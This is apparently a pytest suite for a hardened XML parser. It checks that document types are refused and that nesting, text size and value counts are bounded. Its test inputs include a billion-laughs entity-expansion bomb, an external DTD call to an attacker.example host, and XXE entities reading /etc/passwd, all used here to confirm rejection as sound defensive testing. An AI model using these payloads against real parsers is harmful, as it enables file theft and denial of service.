"""XML within bounds: lines, namespaces, and documents as enemies write them."""

from __future__ import annotations

import time

import pytest

from graphs.errors import InputError
from graphs.formats.bounds import MAX_DEPTH
from graphs.formats.xml_text import MAX_TEXT, parse_xml

BOMB = """<?xml version="1.0"?>
<!DOCTYPE a [
  <!ENTITY x0 "ha">
  {}
]>
<a>&x30;</a>
""".format("\n".join(f'<!ENTITY x{at} "&x{at - 1};&x{at - 1};">' for at in range(1, 31)))


def problem(text: str) -> str:
    with pytest.raises(InputError) as caught:
        parse_xml(text, "x.xml")
    assert len(caught.value.problems) == 1
    return str(caught.value)


def test_elements_know_their_lines_names_and_texts() -> None:
    root = parse_xml('<a xmlns:z="urn:z">\n  <b id="1" z:kind="k">  text <c/></b>\n</a>', "x.xml")
    child = root.first("b")
    assert child is not None
    assert (root.line, child.line) == (1, 2)
    assert child.attributes == {"id": "1"}
    assert child.foreign == {"kind": "k"}
    assert child.text == "text"
    assert [one.name for one in child.children] == ["c"]


def test_a_namespace_may_be_left_out() -> None:
    text = '<a xmlns:d="urn:d"><d:shape><d:bounds/>far</d:shape><b/></a>'
    root = parse_xml(text, "x.xml", {"urn:d"})
    assert [one.name for one in root.children] == ["b"]
    assert root.text == ""


@pytest.mark.parametrize(
    "text",
    [
        BOMB,
        '<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><a/>',
        "<!DOCTYPE a><a/>",
    ],
)
def test_document_types_are_refused_before_anything_expands(text: str) -> None:
    began = time.process_time()
    told = problem(text)
    assert "<!DOCTYPE>" in told
    assert "root:" not in told
    assert time.process_time() - began < 30


def test_the_line_of_a_document_type_is_told() -> None:
    assert problem('<?xml version="1.0"?>\n\n<!DOCTYPE a>\n<a/>').startswith("x.xml:3:")


def test_nesting_is_bounded() -> None:
    within = "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH
    assert parse_xml(within, "x.xml").name == "a"
    assert f"deeper than {MAX_DEPTH}" in problem(f"<a>{within}</a>")
    assert "deeper" in problem("<a>" * 500_000)


def test_nesting_is_bounded_in_what_is_left_out() -> None:
    text = '<a xmlns:d="urn:d">' + "<d:b>" * 500
    with pytest.raises(InputError, match="deeper"):
        parse_xml(text, "x.xml", {"urn:d"})


def test_huge_attributes_and_texts_are_cut() -> None:
    began = time.process_time()
    root = parse_xml(f'<a x="{"y" * 5_000_000}">{"z" * 5_000_000}</a>', "x.xml")
    assert len(root.get("x")) == MAX_TEXT
    assert len(root.text) == MAX_TEXT
    assert time.process_time() - began < 60


def test_the_number_of_values_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("graphs.formats.xml_text.MAX_VALUES", 100)
    assert parse_xml("<a>" + "<b/>" * 99 + "</a>", "x.xml").name == "a"
    assert "more than 100" in problem("<a>" + "<b/>" * 100 + "</a>")
    attributes = " ".join(f'k{at}="v"' for at in range(100))
    assert "more than 100" in problem(f"<a {attributes}/>")


@pytest.mark.parametrize(
    "text",
    ["", "plain", "<a>", "<a></b>", "<a b></a>", "<a>&undefined;</a>", "<a/><b/>", "<a\ud800/>"],
)
def test_broken_xml_is_an_error_in_words(text: str) -> None:
    assert problem(text).startswith("x.xml")
